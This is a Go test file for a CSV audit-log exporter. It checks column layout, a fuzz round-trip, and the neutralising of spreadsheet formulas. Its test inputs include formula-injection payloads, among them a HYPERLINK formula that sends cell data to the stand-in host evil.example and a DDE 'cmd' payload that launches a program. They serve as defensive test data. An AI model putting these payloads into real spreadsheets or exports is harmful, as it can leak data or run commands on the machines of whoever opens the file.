package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vpcep-console/vpcep-console/internal/cts"
)

// legacyCSVRecord is the row internal/handlers exportCSV wrote at commit
// 5c56403.
func legacyCSVRecord(e *Entry) []string {
	optInt := func(n *int) string {
		if n == nil {
			return ""
		}
		return strconv.Itoa(*n)
	}
	optBool := func(b *bool) string {
		if b == nil {
			return ""
		}
		return strconv.FormatBool(*b)
	}
	rollbackOf := ""
	if e.RollbackOf != nil {
		rollbackOf = strconv.FormatInt(*e.RollbackOf, 10)
	}
	finished := ""
	if e.FinishedAt != nil {
		finished = e.FinishedAt.UTC().Format(time.RFC3339Nano)
	}
	return []string{strconv.FormatInt(e.ID, 10), e.StartedAt.UTC().Format(time.RFC3339Nano), finished,
		e.Actor, e.ProjectID, e.Region, e.EndpointID, e.EndpointServiceName, e.Action, e.Reason, rollbackOf,
		e.Restores, e.Outcome, optInt(e.ResponseStatus), e.RequestID, e.ErrorCode, e.ErrorMessage,
		optBool(e.ReadbackMatches), optInt(e.DurationMS), e.Note, string(e.PolicyBefore),
		string(e.PolicyRequested), e.Hash, e.PrevHash, e.FinalHash}
}

func TestCSVIsTheExportBeforePlusLaterFields(t *testing.T) {
	t.Parallel()
	header := []string{"id", "started_at", "finished_at", "actor", "project_id", "region", "endpoint_id",
		"endpoint_service_name", "action", "reason", "rollback_of", "restores", "outcome", "response_status",
		"request_id", "error_code", "error_message", "readback_matches", "duration_ms", "note",
		"policy_before", "policy_requested", "hash", "prev_hash", "final_hash"}
	if diff := cmp.Diff(append(header, "format_version", "acknowledged_warnings", "detected_by", "refers_to", "attribution"), CSVHeader()); diff != "" {
		t.Errorf("CSVHeader mismatch (-want +got):\n%s", diff)
	}
	pending := fullEntry()
	pending.Outcome, pending.FinishedAt, pending.ResponseStatus, pending.ReadbackMatches, pending.DurationMS = OutcomePending, nil, nil, nil, nil
	pending.RollbackOf, pending.FormatVersion = nil, 2
	acknowledged := fullEntry()
	acknowledged.FormatVersion, acknowledged.AcknowledgedWarnings = 3, []string{"allows_everything", "unusual_resource"}
	drift := fullEntry()
	refersTo := int64(7)
	drift.FormatVersion, drift.Action, drift.DetectedBy, drift.RefersTo = 4, ActionAttribute, "refresh", &refersTo
	drift.Attribution = []cts.Trace{{TraceID: "t1", TraceName: "updateEndpointPolicy", ResourceID: "ep-1", User: "=bob",
		SourceIP: "192.0.2.1", Time: time.Date(2026, 11, 27, 20, 0, 0, 0, time.UTC), RequestID: "r1"}}
	for _, e := range []*Entry{fullEntry(), pending, acknowledged, drift, {}} {
		ack := ""
		if len(e.AcknowledgedWarnings) > 0 {
			raw, _ := json.Marshal(e.AcknowledgedWarnings)
			ack = string(raw)
		}
		want := append(legacyCSVRecord(e), strconv.Itoa(e.FormatVersion), ack, "", "", "")
		if e == drift {
			want[len(want)-3], want[len(want)-2] = "refresh", "7"
			want[len(want)-1] = `[{"trace_id":"t1","trace_name":"updateEndpointPolicy","resource_id":"ep-1","user":"=bob",` +
				`"source_ip":"192.0.2.1","time":"2026-11-27T20:00:00Z","request_id":"r1"}]`
		}
		if diff := cmp.Diff(want, e.CSVRecord()); diff != "" {
			t.Errorf("CSVRecord mismatch (-want +got):\n%s", diff)
		}
	}
}

// formulaReasons are reasons a spreadsheet would run, and texts it would not.
var formulaReasons = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1",
	"=cmd|' /C calc'!A0", "plain reason", `[{"Effect":"Allow"}]`, "", "'already quoted", " =1", "日本語",
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"-1", "'-1"},
		{"+1", "'+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{`[{"Effect":"Allow"}]`, `[{"Effect":"Allow"}]`},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	e := fullEntry()
	e.Reason, e.Actor, e.ErrorMessage, e.Note = tests[0].in, "-actor", "@upstream", "=note"
	rec := e.CSVRecord()
	header := CSVHeader()
	want := map[string]string{"reason": tests[0].want, "actor": "'-actor", "error_message": "'@upstream", "note": "'=note",
		"policy_before": `[{"Resource":["a<b>&c"]}]`, "id": "42"}
	for i, name := range header {
		if w, ok := want[name]; ok && rec[i] != w {
			t.Errorf("%s = %q, want %q", name, rec[i], w)
		}
	}
}

// FuzzCSVRecord checks that no cell of an exported row starts a formula,
// that every cell is the field's text (with a quote in front when it would
// start one, or already starts with a quote, so that stripping one leading
// quote always gives the text back), and that the row round-trips through
// encoding/csv.
func FuzzCSVRecord(f *testing.F) {
	for _, r := range formulaReasons {
		f.Add(r, "alice", "")
	}
	f.Fuzz(func(t *testing.T, reason, actor, message string) {
		e := fullEntry()
		e.Reason, e.Actor, e.ErrorMessage = reason, actor, message
		rec := e.CSVRecord()
		for i, cell := range rec {
			if StartsFormula(cell) {
				t.Fatalf("column %s starts a formula: %q", csvColumns[i], cell)
			}
		}
		for i, name := range csvColumns {
			in := map[string]string{"reason": reason, "actor": actor, "error_message": message}
			if v, ok := in[name]; ok {
				want := v
				if StartsFormula(v) || strings.HasPrefix(v, "'") {
					want = "'" + v
				}
				if rec[i] != want {
					t.Fatalf("%s = %q, want %q", name, rec[i], want)
				}
				if got, _ := strings.CutPrefix(rec[i], "'"); want != v && got != v {
					t.Fatalf("%s: stripping one quote from %q gives %q, not the text %q", name, rec[i], got, v)
				}
			}
		}
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		got, err := csv.NewReader(&buf).Read()
		if err != nil {
			t.Fatalf("read back: %v", err)
		}
		// encoding/csv reads a quoted "\r\n" as "\n": that is the format's,
		// not the export's, loss.
		norm := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
		for i := range rec {
			if norm(rec[i]) != got[i] {
				t.Fatalf("column %s: wrote %q, read %q", csvColumns[i], rec[i], got[i])
			}
		}
	})
}

// startsFormulaBefore is StartsFormula as it was before its fast path for
// cells that start with a plain ASCII character.
func startsFormulaBefore(s string) bool {
	s = strings.TrimLeft(s, " \u00a0\u200b\u200c\u200d\u2060\ufeff")
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '|':
		return true
	}
	return strings.HasPrefix(s, "\uff1d")
}

// The export's faster path (one record slice for all rows, StartsFormula's
// fast path) writes the same bytes as the path before it: each cell as
// CSVRecord made it with the old StartsFormula.
func TestCSVFastPathWritesTheSameBytes(t *testing.T) {
	t.Parallel()
	cells := append(slices.Clone(formulaReasons), "a", "|x", "\uff1d1", "\u00a0=1", "\u200b@x", " ", "\ufeff+1", "x=1", "'")
	var entries []*Entry
	for _, c := range cells {
		e := fullEntry()
		e.Reason, e.Actor, e.ErrorMessage, e.Note = c, c, c, c
		entries = append(entries, e, &Entry{Reason: c})
	}
	var before, after bytes.Buffer
	old, fast := csv.NewWriter(&before), csv.NewWriter(&after)
	var record []string
	for _, e := range entries {
		legacy := make([]string, len(csvFields))
		for i, f := range csvFields {
			legacy[i] = f.text(e)
			if startsFormulaBefore(legacy[i]) || strings.HasPrefix(legacy[i], "'") {
				legacy[i] = "'" + legacy[i]
			}
		}
		if err := old.Write(legacy); err != nil {
			t.Fatal(err)
		}
		record = e.AppendCSVRecord(record)
		if err := fast.Write(record); err != nil {
			t.Fatal(err)
		}
	}
	old.Flush()
	fast.Flush()
	if diff := cmp.Diff(before.String(), after.String()); diff != "" {
		t.Errorf("export bytes changed (-before +after):\n%s", diff)
	}
	for _, c := range cells {
		if StartsFormula(c) != startsFormulaBefore(c) {
			t.Errorf("StartsFormula(%q) = %v, before %v", c, StartsFormula(c), startsFormulaBefore(c))
		}
	}
}
